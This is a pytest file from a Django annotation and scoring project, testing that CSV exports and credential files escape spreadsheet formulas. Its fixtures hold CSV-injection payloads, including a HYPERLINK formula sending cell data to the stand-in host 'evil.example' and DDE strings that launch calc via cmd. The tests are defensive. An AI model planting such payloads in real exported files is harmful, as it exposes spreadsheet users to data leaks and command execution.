"""CSV files opened in a spreadsheet: text that looks like a formula is written as text."""

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.urls import reverse

from accounts import credentials
from accounts.csvfiles import credentials_response, write_credentials
from accounts.services.provisioning import Credential
from campaigns.models import Annotator
from campaigns.services.imports import import_records, import_responses
from config.csvcells import safe_cell
from scoring.models import AnnotatorScore
from scoring.services import score_campaign
from scoring.tokens import issue_export_token
from tests.conftest import jsonl

NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
QUESTIONS = [
    {"name": "rank", "title": "Rank", "kind": "ranking"},
    {"name": "why", "title": "Why?", "kind": "text", "required": False},
]


def _live(cell: str) -> bool:
    """A cell a spreadsheet would run: a formula trigger first, and not a plain number."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.fullmatch(cell)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-3", "-3"),
        ("-0.5", "-0.5"),
        ("+2", "+2"),
        ("-1e-3", "-1e-3"),
        ("plain = text", "plain = text"),
        ("", ""),
        (-3, -3),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value: Any, written: Any) -> None:
    assert safe_cell(value) == written


@pytest.fixture
def hostile(make_campaign):
    """A campaign whose record id, prompt, model names, answers and display names are formulas."""
    campaign = make_campaign(slug="hostile", questions=QUESTIONS, status="active")
    responses = [
        {"model": "@SUM(1+1)", "text": "-2+3"},
        {"model": "+cmd|' /C calc'!A0", "text": "fine"},
        {"model": "m2", "text": "\t=1"},
    ]
    records = [
        {"id": "=1+1", "prompt": LINK, "responses": responses},
        {"id": "-g1", "prompt": "gold", "responses": responses, "kind": "gold",
         "gold": {"rank": [2, 0, 1]}},
    ]  # fmt: skip
    import_records(campaign=campaign, source=jsonl(*records))
    answers = [
        {"record": rid, "annotator": who, "answers": {"rank": [2, 0, 1], "why": LINK}}
        for rid in ("=1+1", "-g1")
        for who in ("alice", "bob", "carol")
    ]
    import_responses(campaign=campaign, source=jsonl(*answers))
    Annotator.objects.filter(campaign=campaign).update(display_name="@SUM(1+1)")
    score_campaign(campaign_id=campaign.pk)
    for rank, score in enumerate(AnnotatorScore.objects.filter(campaign=campaign), start=1):
        AnnotatorScore.objects.filter(pk=score.pk).update(
            rank=rank
        )  # three gold answers rank no one
    return campaign


EXPORTS = [
    ("preferences",),
    ("sft",),
    ("sft", "--text-question", "why"),
    ("responses",),
    ("quality",),
    ("leaderboard",),
    ("models",),
]


@pytest.mark.parametrize("export", EXPORTS, ids=lambda e: "-".join(e))
def test_no_export_writes_a_live_formula(hostile, tmp_path: Path, export: tuple[str, ...]) -> None:
    out = tmp_path / "out.csv"
    call_command("export", "hostile", "--format", *export, "--out", str(out))
    cells = _cells(out.read_text())
    assert len(cells) > 10  # rows were written, not only the header
    assert [cell for cell in cells if _live(cell)] == []


def test_the_formulas_come_out_as_text_and_numbers_as_numbers(hostile, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    call_command("export", "hostile", "--format", "preferences", "--out", str(out))
    cells = set(_cells(out.read_text()))
    assert {"'=1+1", "'" + LINK, "'@SUM(1+1)", "'-2+3", "'\t=1"} <= cells
    call_command(
        "export", "hostile", "--format", "sft", "--text-question", "why", "--out", str(out)
    )
    assert "'" + LINK in _cells(out.read_text())
    call_command("export", "hostile", "--format", "quality", "--out", str(out))
    assert "'@SUM(1+1)" in _cells(out.read_text())


def test_the_export_api_and_the_dashboard_write_the_same_safe_csv(hostile, client) -> None:
    _, token = issue_export_token(name="t", campaigns=[hostile], created_by=None)
    url = reverse("scoring:api-export", args=["hostile", "preferences"])
    response = client.get(url, {"as": "csv"}, headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content).decode())
    assert "'=1+1" in cells and [cell for cell in cells if _live(cell)] == []


def test_a_credentials_file_writes_no_live_formula() -> None:
    rows = [Credential("=cmd|'/C calc'!A0", "-secret", "/l/@token/")]
    out = io.StringIO()
    write_credentials(out, rows, "https://example.org")
    assert _cells(out.getvalue())[3:] == [
        "'=cmd|'/C calc'!A0",
        "'-secret",
        "https://example.org/l/@token/",
    ]
    response = credentials_response(rows, "https://example.org", "c.csv")
    assert "'-secret" in _cells(response.content.decode())


def test_a_generated_secret_never_starts_with_a_dash(monkeypatch) -> None:
    drawn = iter(["-first", "-second", "third"])
    monkeypatch.setattr(credentials.secrets, "token_urlsafe", lambda n: next(drawn))
    assert credentials.new_secret() == "third"


def test_generated_secrets_keep_their_length_and_alphabet() -> None:
    secrets = {credentials.new_secret() for _ in range(2000)}
    assert len(secrets) == 2000
    assert all(len(s) == 22 and not s.startswith("-") for s in secrets)
